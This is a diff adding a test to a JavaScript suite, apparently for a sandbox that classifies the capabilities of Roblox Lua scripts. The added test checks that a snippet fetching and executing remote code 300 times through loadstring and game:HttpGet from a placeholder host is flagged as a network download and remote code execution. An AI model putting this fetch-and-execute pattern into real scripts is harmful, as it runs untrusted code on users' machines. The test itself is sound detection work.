@@ -91,6 +91,12 @@ game:GetService("HttpService"):RequestInternal({Url = "https://b.com"}):Start(fu
     ])
   })
 
+  test('sees downloads as such, however many there are', async () => {
+    const code = 'for i = 1, 300 do loadstring(game:HttpGet("https://a.example/" .. i))() end'
+    const ids = (await sandbox.run(code)).capabilities.map(({ id }) => id)
+    expect(ids).toEqual(['net.get', 'code.remote'])
+  })
+
   test('knows what calls of unknown objects do by their names', async () => {
     const code = `require(game.ReplicatedStorage.Net):RemoteEvent("x"):FireServer(1)
 game:FindFirstChild("X", true):FireServer(1)
